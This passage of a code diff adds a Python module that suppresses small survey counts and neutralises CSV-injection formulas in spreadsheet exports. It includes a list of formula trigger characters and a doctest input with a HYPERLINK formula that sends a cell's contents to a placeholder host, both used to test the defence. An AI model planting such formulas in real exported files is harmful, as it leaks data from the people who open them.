@@ -1,0 +1,1059 @@
+"""Disclosure control: small-cell suppression and spreadsheet-safe exports.
+
+A survey that promised anonymity must not publish a table in which a cell of 1 names a
+doctor ("the one paediatrician in Brittany who left"). This module does two things:
+
+* :func:`suppress_small_cells` hides every count from 1 to ``min_cell − 1`` of a
+  table of respondent counts (*primary* suppression, shown as ``"< 5"``), then hides
+  as few other cells as it can so that no hidden cell can be recomputed from the row
+  and column totals (*secondary* suppression, shown as ``"s"``). Percentages and
+  intervals of hidden cells are hidden with them (:meth:`SuppressedTable.proportions`).
+  :func:`needs_suppression` is the same rule for one count ``k`` of a base ``n``.
+* :func:`spreadsheet_safe`, :func:`spreadsheet_safe_frame` and :func:`write_safe_csv`
+  neutralise text cells that a spreadsheet would run as a formula (CSV injection)
+  without changing any number.
+
+The method, its choices and their sources are in ``docs/methods/disclosure.md``.
+"""
+
+from __future__ import annotations
+
+import heapq
+import math
+import numbers
+import os
+import re
+from collections.abc import Hashable, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Final, overload
+
+import numpy as np
+
+from optamstats._checks import (
+    MAX_COUNT,
+    InvalidTypeError,
+    InvalidValueError,
+    ShapeError,
+    _show,
+    check_choice,
+)
+
+if TYPE_CHECKING:
+    import pandas as pd
+
+    from optamstats._typing import IntArray
+
+__all__ = [
+    "DEFAULT_MIN_CELL",
+    "FORMULA_TRIGGERS",
+    "FRENCH_HEALTH_MIN_CELL",
+    "Hidden",
+    "SuppressedTable",
+    "needs_suppression",
+    "spreadsheet_safe",
+    "spreadsheet_safe_frame",
+    "suppress_small_cells",
+    "write_safe_csv",
+]
+
+#: Smallest count shown by default: counts from 1 to 4 are hidden.
+DEFAULT_MIN_CELL: Final = 5
+#: French health-data practice: no published cell below 11 (counts 1 to 10 hidden).
+FRENCH_HEALTH_MIN_CELL: Final = 11
+#: First characters that make a spreadsheet read a text cell as a formula (OWASP, ASVS
+#: 1.2.10), plus line feed and NUL, which some applications strip before parsing.
+FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
+
+#: Status codes of :attr:`SuppressedTable.status`.
+SHOWN: Final = 0
+PRIMARY: Final = 1
+SECONDARY: Final = 2
+
+# A text cell that is a plain number (optionally signed, decimal point or comma,
+# thousands spaces, exponent) is data, not a formula: "-3", "-3,5", "+2.5e-3",
+# "-1 234". It holds no function name, reference or operator beyond its sign, so
+# nothing can run; leaving it alone keeps negative numbers readable as numbers.
+_NUMBER: Final = re.compile(
+    r"[+-]?(?:\d(?:[\d \u00a0\u202f]*\d)?(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?"
+)
+# Leading characters a spreadsheet may skip before reading "=": spaces of any kind.
+_LEADING_SPACE: Final = " \u00a0\u202f\u2007\u2009\ufeff"
+
+
+class Hidden(str):
+    """A published cell hidden by disclosure control: ``"< 5"`` or ``"s"``.
+
+    A string, so that any table, renderer or CSV writer shows it as it is; its type
+    tells programs that the value was withheld, not missing.
+
+    Examples
+    --------
+    >>> Hidden.below(5), Hidden.protecting()
+    ('< 5', 's')
+    """
+
+    __slots__ = ()
+
+    @classmethod
+    def below(cls, min_cell: int) -> Hidden:
+        """Return the marker of a count from 1 to ``min_cell − 1``."""
+        return cls(f"< {min_cell}")
+
+    @classmethod
+    def protecting(cls) -> Hidden:
+        """Return the marker of a value hidden to protect another (or derived from one)."""
+        return cls("s")
+
+
+# --------------------------------------------------------------------------- validation
+
+
+def check_min_cell(min_cell: object, name: str = "min_cell") -> int:
+    """Return `min_cell` as an int ≥ 2, or raise naming the argument."""
+    if isinstance(min_cell, bool | np.bool_) or not isinstance(min_cell, numbers.Real):
+        raise InvalidTypeError(
+            f"`{name}` must be a whole number of respondents ≥ 2, such as 5 (or 11 under "
+            f"the French health-data rule); got {_show(min_cell)}."
+        )
+    value = float(min_cell)
+    if not math.isfinite(value) or not value.is_integer() or value < 2 or value > MAX_COUNT:
+        raise InvalidValueError(
+            f"`{name}` must be a whole number of respondents from 2 to 2**53, such as 5 (or "
+            f"11 under the French health-data rule); got {_show(min_cell)}. To print every "
+            "count, turn disclosure control off instead."
+        )
+    return int(value)
+
+
+def _check_cells(counts: object, name: str) -> tuple[IntArray, tuple[Any, ...], tuple[Any, ...]]:
+    """Return a table of counts as int64 (1-D or 2-D) with its row and column labels."""
+    labels_rows: tuple[Any, ...] = ()
+    labels_cols: tuple[Any, ...] = ()
+    values: Any = counts
+    kind = type(counts).__module__.split(".")[0]
+    if kind == "pandas":
+        import pandas as pd
+
+        if isinstance(counts, pd.DataFrame):
+            labels_rows, labels_cols = tuple(counts.index), tuple(counts.columns)
+            values = counts.to_numpy(dtype=object)
+        elif isinstance(counts, pd.Series):
+            labels_rows = tuple(counts.index)
+            values = counts.to_numpy(dtype=object)
+        else:
+            raise InvalidTypeError(
+                f"`{name}` must be a table of counts (a DataFrame, Series, array or nested "
+                f"lists of whole numbers); got a {type(counts).__name__}."
+            )
+    elif isinstance(counts, str | bytes) or not isinstance(counts, Sequence | np.ndarray):
+        raise InvalidTypeError(
+            f"`{name}` must be a table of counts (a DataFrame, Series, array or nested lists "
+            f"of whole numbers); got {_show(counts)}."
+        )
+    try:
+        array = np.asarray(values, dtype=object)
+    except (TypeError, ValueError) as exc:  # ragged nested lists
+        raise ShapeError(
+            f"`{name}` must be rectangular: every row with the same number of cells; "
+            f"got {_show(counts)}."
+        ) from exc
+    if array.ndim not in (1, 2):
+        raise ShapeError(
+            f"`{name}` must be a 1-D or 2-D table of counts; got {array.ndim} dimension(s) "
+            f"(shape {array.shape}). Flatten extra characteristics into the rows."
+        )
+    if array.size == 0:
+        raise ShapeError(f"`{name}` must hold at least one cell; got shape {array.shape}.")
+    out = np.empty(array.shape, dtype=np.int64)
+    for where, cell in np.ndenumerate(array):
+        if isinstance(cell, Sequence | np.ndarray) and not isinstance(cell, str | bytes):
+            raise ShapeError(
+                f"`{name}` must be rectangular: every row with the same number of cells; "
+                f"got {_show(counts)}."
+            )
+        out[where] = _cell_count(cell, name, where)
+    if not labels_rows:
+        labels_rows = tuple(range(array.shape[0]))
+    if array.ndim == 2 and not labels_cols:
+        labels_cols = tuple(range(array.shape[1]))
+    return out, labels_rows, labels_cols
+
+
+def _cell_count(cell: object, name: str, where: tuple[int, ...]) -> int:
+    at = where[0] if len(where) == 1 else where
+    if isinstance(cell, bool | np.bool_):
+        raise InvalidTypeError(
+            f"`{name}` must hold whole numbers of respondents, not booleans; got {cell!r} at {at}."
+        )
+    if isinstance(cell, numbers.Integral):
+        value = int(cell)
+    elif isinstance(cell, numbers.Real):
+        number = float(cell)
+        if not math.isfinite(number) or not number.is_integer():
+            raise InvalidValueError(
+                f"`{name}` must hold whole numbers of respondents; got {_show(cell)} at {at}. "
+                "Suppression applies to counts, not to percentages or weighted totals."
+            )
+        value = int(number)
+    else:
+        raise InvalidTypeError(
+            f"`{name}` must hold whole numbers of respondents; got {_show(cell)} at {at}."
+        )
+    if value < 0 or value > MAX_COUNT:
+        raise InvalidValueError(f"`{name}` must hold counts from 0 to 2**53; got {value} at {at}.")
+    return value
+
+
+def _check_mask(mask: object, shape: tuple[int, ...], name: str) -> np.ndarray[Any, Any]:
+    try:
+        array = np.asarray(mask)
+    except (TypeError, ValueError):  # ragged nested lists
+        array = np.asarray(None)
+    if array.dtype != np.bool_:
+        raise InvalidTypeError(
+            f"`{name}` must be a boolean mask of the table's cells (True = hide); got dtype "
+            f"{array.dtype}."
+        )
+    if array.shape != shape:
+        raise ShapeError(f"`{name}` must have the table's shape {shape}; got {array.shape}.")
+    return array
+
+
+def _counts(name: str, value: object) -> Any:
+    """One count (int) or an array of counts, validated (an empty base of 0 is allowed)."""
+    from optamstats._checks import _array_count, _scalar_count
+
+    scalar = _scalar_count(name, value)
+    return scalar if scalar is not None else _array_count(name, value)
+
+
+# --------------------------------------------------------------------------- the rule
+
+
+@overload
+def needs_suppression(k: int, n: int | None = None, *, min_cell: int = ...) -> bool: ...
+@overload
+def needs_suppression(
+    k: Any, n: Any = None, *, min_cell: int = ...
+) -> bool | np.ndarray[Any, np.dtype[np.bool_]]: ...
+def needs_suppression(
+    k: Any, n: Any = None, *, min_cell: int = DEFAULT_MIN_CELL
+) -> bool | np.ndarray[Any, np.dtype[np.bool_]]:
+    """Tell whether a count of respondents must be hidden (primary suppression).
+
+    A count ``k`` is hidden when ``1 ≤ k < min_cell``. With its base ``n``, the
+    complementary count ``n − k`` (those who did not tick, or did not leave) is a
+    cell of the same two-cell table and is checked too: 48 of 50 reveals that 2 did
+    not. Zero is shown: it names nobody.
+
+    Parameters
+    ----------
+    k : int or array of int
+        Respondents counted.
+    n : int or array of int, optional
+        The base the count is a part of.
+    min_cell : int, default 5
+        Smallest count shown; 11 follows the French health-data practice of publishing
+        no count from 1 to 10 (:data:`FRENCH_HEALTH_MIN_CELL`).
+
+    Returns
+    -------
+    bool or ndarray of bool
+        True where the count (or its complement) must be hidden.
+
+    Raises
+    ------
+    InvalidValueError
+        Negative or fractional counts, ``k > n``, or a `min_cell` below 2.
+    InvalidTypeError
+        Non-numeric counts or `min_cell`.
+
+    References
+    ----------
+    .. [1] A. Hundepool et al., *Statistical Disclosure Control*, Wiley, 2012, ch. 5
+       (frequency tables: the threshold rule).
+    .. [2] Health Data Hub, documentation collaborative du SNDS, fiche
+       « Téléconsultations » (2022): « Les effectifs inférieurs à 11 ne sont pas
+       restitués. »
+
+    Examples
+    --------
+    >>> needs_suppression(3)
+    True
+    >>> needs_suppression(48, 50)  # 2 did not
+    True
+    >>> needs_suppression([0, 4, 5, 12], 50, min_cell=11).tolist()
+    [False, True, True, False]
+    """
+    threshold = check_min_cell(min_cell)
+    k_c = _counts("k", k)
+    if n is None:
+        small = (k_c >= 1) & (k_c < threshold)
+    else:
+        n_c = _counts("n", n)
+        try:
+            k_b, n_b = np.broadcast_arrays(k_c, n_c)
+        except ValueError as exc:
+            raise ShapeError(
+                f"`k` and `n` must have shapes that broadcast together; got {np.shape(k_c)} "
+                f"and {np.shape(n_c)}."
+            ) from exc
+        over = k_b > n_b
+        if over.any():
+            where = tuple(int(i) for i in np.argwhere(over)[0]) if over.ndim else ()
+            at = f" at index {where}" if where else ""
+            raise InvalidValueError(
+                f"`k` must be ≤ `n`; got k={k_b[where]:g} > n={n_b[where]:g}{at}. Check that "
+                "the count and its base refer to the same respondents."
+            )
+        rest = n_b - k_b
+        small = ((k_b >= 1) & (k_b < threshold)) | ((rest >= 1) & (rest < threshold))
+    return bool(small) if np.ndim(small) == 0 else np.asarray(small, dtype=bool)
+
+
+# --------------------------------------------------------------------------- the table
+
+
+@dataclass(frozen=True, slots=True, repr=False)
+class SuppressedTable:
+    """A table of counts with its primary and secondary suppressions.
+
+    The table is kept *with its margins* when they are published: a last row of column
+    totals, a last column of row totals (a 1-D table: a last cell, the total). A margin
+    may itself be hidden when nothing else protects a cell (a one-row table).
+
+    Attributes
+    ----------
+    counts : ndarray of int64
+        The true counts, margins included (``shape`` + 1 along each axis when
+        `margins`). Never publish this attribute: publish :meth:`display`,
+        :meth:`to_frame` or :meth:`proportions`.
+    status : ndarray of int8
+        Same shape: 0 shown, 1 primary (a count from 1 to ``min_cell − 1``, or asked
+        by the caller), 2 secondary (hidden so that no primary can be recomputed).
+    min_cell : int
+        Smallest count shown.
+    margins : bool
+        Whether the totals are part of the published table.
+    rows, columns : tuple
+        Labels, totals included (``"Total"``). A 1-D table has no columns.
+
+    References
+    ----------
+    .. [1] L. H. Cox, "Suppression methodology and statistical disclosure control",
+       J. Amer. Statist. Assoc. 75(370):377–385, 1980.
+
+    Examples
+    --------
+    >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
+    >>> print(t.display())
+            0    1   2 Total
+    0       s  < 5  20    35
+    1       s    s  30    54
+    Total  27   12  50    89
+    """
+
+    counts: IntArray
+    status: np.ndarray[Any, np.dtype[np.int8]]
+    min_cell: int
+    margins: bool
+    rows: tuple[Any, ...]
+    columns: tuple[Any, ...] = ()
+
+    @property
+    def suppressed(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
+        """Mask of hidden cells (primary or secondary), margins included."""
+        return np.asarray(self.status != SHOWN)
+
+    @property
+    def primary(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
+        """Mask of cells hidden for their own count."""
+        return np.asarray(self.status == PRIMARY)
+
+    @property
+    def secondary(self) -> np.ndarray[Any, np.dtype[np.bool_]]:
+        """Mask of cells hidden to protect another one."""
+        return np.asarray(self.status == SECONDARY)
+
+    @property
+    def n_suppressed(self) -> int:
+        """Number of hidden cells, margins included."""
+        return int(np.count_nonzero(self.status))
+
+    def label(self, where: tuple[int, ...] | int, lang: str = "en") -> str:
+        """Return what a reader sees in one cell: the count, ``"< 5"`` or ``"s"``."""
+        status = int(self.status[where])
+        value = int(self.counts[where])
+        if status != SHOWN:
+            # "< 5" only where it is true: a cell hidden for its complement, or to
+            # protect another, may hold any count.
+            small = status == PRIMARY and 1 <= value < self.min_cell
+            return Hidden.below(self.min_cell) if small else Hidden.protecting()
+        text = f"{value:,}"
+        return text.replace(",", "\u202f") if lang == "fr" else text
+
+    def display(self, lang: str = "en") -> pd.DataFrame:
+        """Return the table as people may see it: strings, hidden cells as ``< 5`` or ``s``.
+
+        Parameters
+        ----------
+        lang : {"en", "fr"}
+            Thousands separator (``1,234`` or ``1 234``).
+
+        Returns
+        -------
+        pandas.DataFrame
+            One string per cell, margins included.
+
+        Examples
+        --------
+        >>> print(suppress_small_cells([2, 10, 30]).display())
+              count
+        0       < 5
+        1         s
+        2        30
+        Total    42
+        """
+        import pandas as pd
+
+        check_choice("lang", lang, ("en", "fr"))
+        cells = np.empty(self.counts.shape, dtype=object)
+        for where in np.ndindex(*self.counts.shape):
+            cells[where] = self.label(where, lang)
+        if self.counts.ndim == 1:
+            return pd.DataFrame({"count": cells}, index=list(self.rows))
+        return pd.DataFrame(cells, index=list(self.rows), columns=list(self.columns))
+
+    def to_frame(self) -> pd.DataFrame:
+        """Return a tidy table: one row per cell, hidden counts as ``<NA>``.
+
+        Returns
+        -------
+        pandas.DataFrame
+            Columns ``row`` (and ``column`` for 2-D tables), ``count`` (nullable
+            ``Int64``: ``<NA>`` where hidden), ``status`` (``"shown"``, ``"primary"``,
+            ``"secondary"``) and ``display`` (what a reader sees).
+
+        Examples
+        --------
+        >>> suppress_small_cells([2, 10, 30]).to_frame()
+             row  count     status display
+        0      0   <NA>    primary     < 5
+        1      1   <NA>  secondary       s
+        2      2     30      shown      30
+        3  Total     42      shown      42
+        """
+        import pandas as pd
+
+        names = {SHOWN: "shown", PRIMARY: "primary", SECONDARY: "secondary"}
+        records: dict[str, list[Any]] = {"row": []}
+        if self.counts.ndim == 2:
+            records["column"] = []
+        records.update({"count": [], "status": [], "display": []})
+        for where in np.ndindex(*self.counts.shape):
+            records["row"].append(self.rows[where[0]])
+            if self.counts.ndim == 2:
+                records["column"].append(self.columns[where[1]])
+            hidden = bool(self.status[where])
+            records["count"].append(pd.NA if hidden else int(self.counts[where]))
+            records["status"].append(names[int(self.status[where])])
+            records["display"].append(self.label(where))
+        frame = pd.DataFrame(records)
+        frame["count"] = frame["count"].astype("Int64")
+        return frame
+
+    def proportions(
+        self, by: str = "row", *, confidence: float = 0.95, method: str = "wilson"
+    ) -> pd.DataFrame:
+        """Return each cell as a share of its row, column or grand total, with intervals.
+
+        Percentages and intervals of hidden cells are hidden too, and so are all the
+        shares of a row (column) whose total is hidden: a share and its count give the
+        total back.
+
+        Parameters
+        ----------
+        by : {"row", "column", "total"}
+            The base of each share. 1-D tables accept ``"total"`` (and ``"row"`` as
+            its synonym).
+        confidence : float
+            Level of the intervals.
+        method : str
+            Interval method of :func:`optamstats.proportion`.
+
+        Returns
+        -------
+        pandas.DataFrame
+            Columns ``row`` (``column``), ``k``, ``n``, ``estimate``, ``low``, ``high``
+            (nullable: ``<NA>`` where hidden) and ``status`` of the cell. Margins are
+            not rows of this table.
+
+        Raises
+        ------
+        InvalidValueError
+            `by` is not a base of this table, or the table has no published margins
+            (shares of unpublished totals would reveal them).
+
+        Examples
+        --------
+        >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
+        >>> t.proportions("row")[["row", "column", "k", "estimate"]].round(3)
+           row  column     k  estimate
+        0    0       0  <NA>      <NA>
+        1    0       1  <NA>      <NA>
+        2    0       2    20     0.571
+        3    1       0  <NA>      <NA>
+        4    1       1  <NA>      <NA>
+        5    1       2    30     0.556
+        """
+        import pandas as pd
+
+        from optamstats.proportions import proportion
+
+        choices = ("row", "total") if self.counts.ndim == 1 else ("row", "column", "total")
+        by = check_choice("by", by, choices)
+        if not self.margins:
+            raise InvalidValueError(
+                "`by`: shares need published totals, and this table was suppressed with "
+                "`margins=False`. Suppress it again with `margins=True`."
+            )
+        cells = list(np.ndindex(*(s - 1 for s in self.counts.shape)))
+        bases = [_base_of(w, by) for w in cells]
+        k = np.array([self.counts[w] for w in cells], dtype=np.int64)
+        n = np.array([self.counts[b] for b in bases], dtype=np.int64)
+        base_hidden = np.array([bool(self.status[b]) for b in bases], dtype=bool)
+        hidden = np.array([bool(self.status[w]) for w in cells], dtype=bool)
+        hidden |= base_hidden | (n == 0)  # an empty row has no shares
+        safe_n = np.where(n == 0, 1, n)
+        result = proportion(np.minimum(k, safe_n), safe_n, confidence=confidence, method=method)
+        names = {SHOWN: "shown", PRIMARY: "primary", SECONDARY: "secondary"}
+
+        def nullable(values: Any, dtype: Any, mask: np.ndarray[Any, Any]) -> pd.Series:
+            series: pd.Series = pd.Series(np.asarray(values)).astype(dtype)
+            series[mask] = pd.NA
+            return series
+
+        data: dict[str, Any] = {"row": [self.rows[w[0]] for w in cells]}
+        if self.counts.ndim == 2:
+            data["column"] = [self.columns[w[1]] for w in cells]
+        frame = pd.DataFrame(data)
+        frame["k"] = nullable(k, "Int64", np.array([bool(self.status[w]) for w in cells]))
+        frame["n"] = nullable(n, "Int64", base_hidden)
+        frame["estimate"] = nullable(result.estimate, "Float64", hidden)
+        frame["low"] = nullable(result.low, "Float64", hidden)
+        frame["high"] = nullable(result.high, "Float64", hidden)
+        frame["status"] = [names[int(self.status[w])] for w in cells]
+        return frame
+
+    def __repr__(self) -> str:
+        shape = "×".join(str(s) for s in self.counts.shape)
+        return (
+            f"SuppressedTable({shape} with margins={self.margins}, min_cell={self.min_cell}: "
+            f"{int(np.count_nonzero(self.primary))} primary, "
+            f"{int(np.count_nonzero(self.secondary))} secondary)"
+        )
+
+    def _repr_html_(self) -> str:
+        """Return the displayed table as HTML (Jupyter)."""
+        import html
+
+        frame = self.display()
+        head = "".join(f"<th>{html.escape(str(c))}</th>" for c in frame.columns)
+        body = "".join(
+            f"<tr><th>{html.escape(str(label))}</th>"
+            + "".join(f"<td>{html.escape(str(v))}</td>" for v in row)
+            + "</tr>"
+            for label, row in zip(frame.index, frame.to_numpy(), strict=True)
+        )
+        return (
+            f"<table><caption>{html.escape(repr(self))}</caption><thead><tr><th></th>{head}"
+            f"</tr></thead><tbody>{body}</tbody></table>"
+        )
+
+
+def _base_of(cell: tuple[int, ...], by: str) -> tuple[int, ...]:
+    """Where the base of a share of `cell` is in the table with margins."""
+    if len(cell) == 1:
+        return (-1,)
+    if by == "row":
+        return (cell[0], -1)
+    return (-1, cell[1]) if by == "column" else (-1, -1)
+
+
+def suppress_small_cells(
+    counts: Any,
+    min_cell: int = DEFAULT_MIN_CELL,
+    *,
+    margins: bool = True,
+    primary: Any = None,
+) -> SuppressedTable:
+    """Hide the small cells of a table of respondent counts, and what would reveal them.
+
+    Primary suppression hides every count from 1 to ``min_cell − 1`` (and the cells of
+    `primary`). Secondary suppression then hides further cells until no hidden cell can
+    be recomputed from the published ones and the totals: in a 2-D table with its
+    margins, a hidden cell is recomputable exactly when it lies on no cycle of hidden
+    cells (rows and columns as the two sides of a bipartite graph, hidden cells as its
+    edges — such a cell is a *bridge*). Each bridge is closed into a cycle along the
+    cheapest path of cells, cost = the count hidden (zeros last: a hidden zero protects
+    little, since counts cannot go below it), until no bridge is left.
+
+    Parameters
+    ----------
+    counts : DataFrame, Series, array or nested lists of int
+        A 1-D or 2-D table of respondent counts, without totals. Labels of a DataFrame
+        or Series are kept.
+    min_cell : int, default 5
+        Smallest count shown. 11 follows the French health-data practice
+        (:data:`FRENCH_HEALTH_MIN_CELL`).
+    margins : bool, default True
+        Whether row, column and grand totals are published with the table. Without
+        them nothing can be recomputed, and only primary suppression is applied.
+    primary : array of bool, optional
+        Cells to hide whatever their count (e.g. ``needs_suppression(k, n)`` for the
+        complement of each cell in its base).
+
+    Returns
+    -------
+    SuppressedTable
+        Publish :meth:`~SuppressedTable.display`, :meth:`~SuppressedTable.to_frame` or
+        :meth:`~SuppressedTable.proportions`.
+
+    Raises
+    ------
+    InvalidTypeError
+        Non-numeric cells or `min_cell`, a `primary` that is not boolean.
+    InvalidValueError
+        Negative or fractional counts, `min_cell` below 2.
+    ShapeError
+        A table that is empty, ragged or more than 2-D; a `primary` of another shape.
+
+    Notes
+    -----
+    The algorithm is a greedy heuristic, not the optimal (fewest hidden cells) solution
+    of sdcTable's ``protectTable(method="OPT")`` or tau-ARGUS. It guarantees that no
+    hidden cell is determined by the linear row and column equations; it does not
+    compute protection intervals.
+
+    References
+    ----------
+    .. [1] L. H. Cox, "Suppression methodology and statistical disclosure control",
+       J. Amer. Statist. Assoc. 75(370):377–385, 1980.
+    .. [2] A. Hundepool et al., *Statistical Disclosure Control*, Wiley, 2012, ch. 5.
+    .. [3] R. E. Tarjan, "A note on finding the bridges of a graph", Inform. Process.
+       Lett. 2(6):160–161, 1974.
+
+    Examples
+    --------
+    One cell of 3 in a 2 × 3 table: hiding it alone, or with one more cell of its
+    row, would let the totals give it back; a cycle of four cells is hidden, through
+    the cheapest column (12 + 15 + 9 < 20 + 30 + 9).
+
+    >>> t = suppress_small_cells([[12, 3, 20], [15, 9, 30]])
+    >>> int(t.primary.sum()), int(t.secondary.sum())
+    (1, 3)
+    >>> print(t.display())
+            0    1   2 Total
+    0       s  < 5  20    35
+    1       s    s  30    54
+    Total  27   12  50    89
+    """
+    threshold = check_min_cell(min_cell)
+    if not isinstance(margins, bool | np.bool_):
+        raise InvalidTypeError(f"`margins` must be True or False; got {_show(margins)}.")
+    cells, rows, columns = _check_cells(counts, "counts")
+    forced = (
+        np.zeros(cells.shape, dtype=bool)
+        if primary is None
+        else _check_mask(primary, cells.shape, "primary")
+    )
+    small = ((cells >= 1) & (cells < threshold)) | forced
+    if not margins:
+        status = np.where(small, PRIMARY, SHOWN).astype(np.int8)
+        return SuppressedTable(cells, status, threshold, False, rows, columns)
+    if cells.ndim == 1:
+        table = np.append(cells, cells.sum())
+        status = np.zeros(table.shape, dtype=np.int8)
+        status[:-1][small] = PRIMARY
+        _protect_1d(table, status)
+        return SuppressedTable(table, status, threshold, True, (*rows, "Total"), ())
+    table = np.zeros((cells.shape[0] + 1, cells.shape[1] + 1), dtype=np.int64)
+    table[:-1, :-1] = cells
+    table[:-1, -1] = cells.sum(axis=1)
+    table[-1, :-1] = cells.sum(axis=0)
+    table[-1, -1] = cells.sum()
+    status = np.zeros(table.shape, dtype=np.int8)
+    status[:-1, :-1][small] = PRIMARY
+    _protect_2d(table, status)
+    return SuppressedTable(table, status, threshold, True, (*rows, "Total"), (*columns, "Total"))
+
+
+# --------------------------------------------------------------------------- secondary
+
+
+def _cost(value: int, total: int) -> int:
+    """Cost of hiding a cell: its count; a zero last (it only bounds from below)."""
+    return value if value > 0 else total + 1
+
+
+def _protect_1d(table: IntArray, status: np.ndarray[Any, Any]) -> None:
+    """Cells and their total obey one equation: two unknowns or more are safe."""
+    hidden = np.flatnonzero(status)
+    if hidden.size != 1:
+        return
+    total = int(table[-1])
+    candidates = [i for i in range(table.size) if not status[i]]
+    # The published total is itself an unknown candidate (a one-cell table).
+    best = min(candidates, key=lambda i: (_cost(int(table[i]), total), i))
+    status[best] = SECONDARY
+
+
+def _bridges(n_rows: int, n_cols: int, edges: list[tuple[int, int]]) -> list[tuple[int, int]]:
+    """Bridges of the bipartite graph rows + columns, by Tarjan's lowlink (iterative)."""
+    n_nodes = n_rows + n_cols
+    adjacency: list[list[tuple[int, int]]] = [[] for _ in range(n_nodes)]
+    for e, (i, j) in enumerate(edges):
+        adjacency[i].append((n_rows + j, e))
+        adjacency[n_rows + j].append((i, e))
+    order = [-1] * n_nodes
+    low = [0] * n_nodes
+    found: list[tuple[int, int]] = []
+    counter = 0
+    for root in range(n_nodes):
+        if order[root] != -1 or not adjacency[root]:
+            continue
+        order[root] = low[root] = counter
+        counter += 1
+        stack: list[tuple[int, int, int]] = [(root, -1, 0)]  # node, edge in, next index
+        while stack:
+            node, via, nxt = stack[-1]
+            if nxt < len(adjacency[node]):
+                stack[-1] = (node, via, nxt + 1)
+                other, e = adjacency[node][nxt]
+                if e == via:
+                    continue
+                if order[other] == -1:
+                    order[other] = low[other] = counter
+                    counter += 1
+                    stack.append((other, e, 0))
+                else:
+                    low[node] = min(low[node], order[other])
+                continue
+            stack.pop()
+            if stack:
+                parent = stack[-1][0]
+                low[parent] = min(low[parent], low[node])
+                if low[node] > order[parent]:
+                    found.append(edges[via])
+    return sorted(found)
+
+
+def _cheapest_cycle(
+    table: IntArray, status: np.ndarray[Any, Any], bridge: tuple[int, int]
+) -> list[tuple[int, int]]:
+    """Cells to hide so that `bridge` lies on a cycle: cheapest row-to-column path.
+
+    Dijkstra on the complete bipartite graph without the bridge itself; hidden cells
+    cost nothing, a shown cell its :func:`_cost`.
+    """
+    n_rows, n_cols = table.shape
+    total = int(table[-1, -1])
+    start, goal = bridge[0], n_rows + bridge[1]
+    dist = {start: 0}
+    previous: dict[int, int] = {}
+    heap = [(0, start)]
+    done: set[int] = set()
+    while heap:
+        d, node = heapq.heappop(heap)
+        if node in done:
+            continue
+        done.add(node)
+        if node == goal:
+            break
+        if node < n_rows:
+            neighbours = ((n_rows + j, (node, j)) for j in range(n_cols))
+        else:
+            neighbours = ((i, (i, node - n_rows)) for i in range(n_rows))
+        for other, cell in neighbours:
+            if cell == bridge or other in done:
+                continue
+            weight = 0 if status[cell] else _cost(int(table[cell]), total)
+            if d + weight < dist.get(other, math.inf):
+                dist[other] = d + weight
+                previous[other] = node
+                heapq.heappush(heap, (d + weight, other))
+    path: list[tuple[int, int]] = []
+    node = goal
+    while node != start:
+        before = previous[node]
+        cell = (before, node - n_rows) if before < n_rows else (node, before - n_rows)
+        if not status[cell]:
+            path.append(cell)
+        node = before
+    return path
+
+
+def _protect_2d(table: IntArray, status: np.ndarray[Any, Any]) -> None:
+    """Secondary suppression of a table with its margins, until no hidden cell is a bridge.
+
+    With margins, the table (R + 1) × (C + 1) has every row and column sum known once
+    the totals are signed (−1 on the margins), so a hidden cell is recomputable exactly
+    when it is a bridge of the graph of hidden cells. Adding cells never turns a
+    non-bridge into a bridge, and each round puts one bridge on a cycle: this ends.
+    """
+    n_rows, n_cols = table.shape
+    while True:
+        edges = [(int(i), int(j)) for i, j in zip(*np.nonzero(status), strict=True)]
+        bridges = _bridges(n_rows, n_cols, edges)
+        if not bridges:
+            return
+        for cell in _cheapest_cycle(table, status, bridges[0]):
+            status[cell] = SECONDARY
+
+
+# --------------------------------------------------------------------------- safe exports
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    r"""Return `value` unchanged, unless it is text a spreadsheet would run as a formula.
+
+    Text starting with ``=``, ``+``, ``-``, ``@``, tab, carriage return (OWASP), line
+    feed or NUL — after any leading spaces — gets a leading apostrophe, which
+    spreadsheets read as "this cell is text". Numbers are never changed: a number
+    (``-3``, ``2.5``, numpy scalars) is returned as it is, and so is text that is
+    only a number (``"-3"``, ``"-3,5"``, ``"+1e-3"``): it cannot call anything.
+
+    Parameters
+    ----------
+    value : object
+        One cell.
+
+    Returns
+    -------
+    object
+        `value`, or ``"'" + value`` for formula-like text.
+
+    Notes
+    -----
+    The apostrophe stays visible in a text editor and in some viewers. Excel hides it,
+    and drops it when the file is saved again from Excel: the re-saved file is no
+    longer neutralised.
+
+    References
+    ----------
+    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
+    .. [2] OWASP Application Security Verification Standard 5.0, requirement 1.2.10.
+    .. [3] MITRE, CWE-1236, "Improper Neutralization of Formula Elements in a CSV File".
+
+    Examples
+    --------
+    >>> spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1, "clic")')
+    '\'=HYPERLINK("http://x.example/?"&A1, "clic")'
+    >>> spreadsheet_safe("-3 + cmd")
+    "'-3 + cmd"
+    >>> spreadsheet_safe("-3"), spreadsheet_safe(-3), spreadsheet_safe("Pédiatrie")
+    ('-3', -3, 'Pédiatrie')
+    """
+    if not isinstance(value, str):
+        return value
+    stripped = value.lstrip(_LEADING_SPACE)
+    if not stripped or stripped[0] not in FORMULA_TRIGGERS:
+        return value
+    if _NUMBER.fullmatch(stripped.strip(_LEADING_SPACE)):
+        return value
+    return "'" + value
+
+
+def _safe_label(label: Hashable) -> Hashable:
+    if isinstance(label, tuple):
+        return tuple(_safe_label(part) for part in label)
+    return spreadsheet_safe(label)  # type: ignore[no-any-return]
+
+
+def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """Return a copy of `frame` whose text cells and labels are spreadsheet-safe.
+
+    Every text cell, column label and index label goes through
+    :func:`spreadsheet_safe`; numeric columns are returned untouched.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        A table about to be exported.
+
+    Returns
+    -------
+    pandas.DataFrame
+        A neutralised copy.
+
+    Raises
+    ------
+    InvalidTypeError
+        `frame` is not a DataFrame.
+
+    References
+    ----------
